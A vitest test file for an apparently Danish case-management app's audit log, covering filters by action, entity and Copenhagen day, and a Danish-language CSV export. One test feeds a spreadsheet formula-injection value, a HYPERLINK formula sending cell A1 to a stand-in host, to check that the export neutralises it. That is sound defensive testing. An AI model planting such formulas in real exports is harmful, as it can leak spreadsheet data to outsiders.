import { describe, it, expect, afterEach } from 'vitest';
import Papa from 'papaparse';
import { createTestVault, OWNER, PASSPHRASE, type TestVault } from './helpers';
import type { CaseDetail } from '../../src/shared/cases/contract';

let v: TestVault;
afterEach(() => v?.cleanup());

type AuditList = { total: number; rows: { action: string; entity: string; entityId: number | null; at: string }[]; actions: string[] };

describe('audit viewer', () => {
  it('filters by action, entity and day, newest first, and exports CSV for a review', async () => {
    let now = new Date('2026-11-20T09:00:00Z').getTime();
    v = await createTestVault({ now: () => new Date(now) });
    const c = await v.call<CaseDetail>('cases.open', { person: { firstName: 'Ærø', lastName: 'Prøvesen', birthDate: '2011-02-02' }, level: 1, reason: 'r', openedOn: '2026-11-01' });
    now += 86_400_000;
    await v.call('cases.get', { caseId: c.id });
    await v.call('cases.get', { caseId: c.id });
    const all = await v.call<AuditList>('audit.list', {});
    expect(all.rows.map((r) => `${r.action}:${r.entity}`)).toEqual(['view:case', 'view:case', 'create:case', 'create:person', 'create:vault']);
    expect(all.actions).toEqual(['create', 'view']);
    const views = await v.call<AuditList>('audit.list', { action: 'view', entity: 'case' });
    expect(views.total).toBe(2);
    expect(views.rows.every((r) => r.entityId === c.id)).toBe(true);
    expect((await v.call<AuditList>('audit.list', { from: '2026-11-21', to: '2026-11-21' })).total).toBe(2);
    expect((await v.call<AuditList>('audit.list', { to: '2026-11-20' })).total).toBe(3);
    expect((await v.call<AuditList>('audit.list', { limit: 1, offset: 1 })).rows.map((r) => r.action)).toEqual(['view']);

    const exported = await v.call<{ fileName: string; csv: string }>('audit.export', { action: 'view' });
    expect(exported.fileName).toBe('ssp-desk-revisionsspor-2026-11-21.csv');
    expect(exported.csv.startsWith('\uFEFF')).toBe(true);
    const parsed = Papa.parse<string[]>(exported.csv.slice(1).trim(), { delimiter: ';' });
    expect(parsed.data[0]).toEqual(['Nr.', 'Tidspunkt (dansk tid)', 'Bruger', 'Handling', 'Område', 'Post-nr.', 'Detaljer', 'Handlingskode', 'Områdekode', 'Detaljekode']);
    // 09:00 UTC on 21 November is 10:00 in Copenhagen (winter time), written as a date-time value.
    expect(parsed.data.slice(1).map((r) => [r[1], r[2], r[3], r[4], r[5], r[7], r[8]])).toEqual([
      ['2026-11-21 10:00:00', OWNER.name, 'Set', 'Sag', String(c.id), 'view', 'case'],
      ['2026-11-21 10:00:00', OWNER.name, 'Set', 'Sag', String(c.id), 'view', 'case'],
    ]);
    expect(exported.csv).not.toContain('Prøvesen');
    // The export itself is recorded.
    expect((await v.call<AuditList>('audit.list', { action: 'export' })).rows.map((r) => r.entity)).toEqual(['audit_log']);
  });

  it('the day filter uses Copenhagen\'s days: an entry at 00:30 in Copenhagen (22:30 UTC the day before) is on its Danish day', async () => {
    // 30 June 2026 22:30 UTC = 1 July 00:30 summer time; 31 December 2026 23:30 UTC = 1 January 2027 00:30 winter time.
    const times = ['2026-06-30T21:59:00Z', '2026-06-30T22:30:00Z', '2026-12-31T22:59:00Z', '2026-12-31T23:30:00Z'];
    let i = 0;
    let now = new Date('2026-06-01T10:00:00Z');
    v = await createTestVault({ now: () => now });
    const c = await v.call<CaseDetail>('cases.open', { person: { firstName: 'Dag', lastName: 'Grænsesen', birthDate: '2011-02-02' }, level: 1, reason: 'r', openedOn: '2026-06-01' });
    for (; i < times.length; i++) {
      now = new Date(times[i]!);
      await v.call('cases.get', { caseId: c.id });
    }
    const views = async (from: string, to: string) =>
      (await v.call<AuditList>('audit.list', { action: 'view', from, to })).rows.map((r) => r.at).sort();
    // By hand: 21:59 UTC on 30 June is 23:59 on 30 June in Copenhagen; 22:30 UTC is 00:30 on 1 July.
    expect(await views('2026-06-30', '2026-06-30')).toEqual([new Date(times[0]!).toISOString()]);
    expect(await views('2026-07-01', '2026-07-01')).toEqual([new Date(times[1]!).toISOString()]);
    // Winter time (+1): 22:59 UTC on 31 December is 23:59 that day; 23:30 UTC is 00:30 on 1 January.
    expect(await views('2026-12-31', '2026-12-31')).toEqual([new Date(times[2]!).toISOString()]);
    expect(await views('2027-01-01', '2027-01-01')).toEqual([new Date(times[3]!).toISOString()]);
    expect(await views('2026-07-01', '2026-12-31')).toEqual([times[1]!, times[2]!].map((t) => new Date(t).toISOString()));
    const csv = (await v.call<{ csv: string }>('audit.export', { action: 'view', from: '2027-01-01', to: '2027-01-01' })).csv;
    expect(csv).toContain('2027-01-01 00:30:00');
    expect(csv).not.toContain('2026-12-31 23:59:00');
  });

  it('the CSV neutralises formula cells (the shared guard), says actions, areas and details in Danish, and summer time is +2', async () => {
    const now = new Date('2026-07-01T22:30:00Z').getTime();
    v = await createTestVault({ create: false, now: () => new Date(now) });
    const owner = { name: '=HYPERLINK("http://x.example/?q="&A1;"Klik")', role: '+SSP', area: '@Amager' };
    await v.call('vault.create', { passphrase: PASSPHRASE, passphraseConfirm: PASSPHRASE, owner });
    await v.call('settings.update', { backupReminderDays: 9, idleLockMinutes: 7 });
    const { csv } = await v.call<{ csv: string }>('audit.export', {});
    const rows = Papa.parse<string[]>(csv.slice(1).trim(), { delimiter: ';' }).data.slice(1);
    // Every user cell starts with an apostrophe: Excel shows the text, never runs it.
    for (const r of rows) expect(r[2]).toBe(`'${owner.name}`);
    const settings = rows.find((r) => r[8] === 'settings' || r[8] === 'setting')!;
    expect(settings.slice(1, 7)).toEqual(['2026-07-02 00:30:00', `'${owner.name}`, 'Ændret', 'Indstillinger', '', 'Påmindelse om sikkerhedskopi (dage), Automatisk lås (minutter)']);
    expect(settings[9]).toBe('backupReminderDays,idleLockMinutes');
    expect(csv).not.toMatch(/;=HYPERLINK/);
  });
});
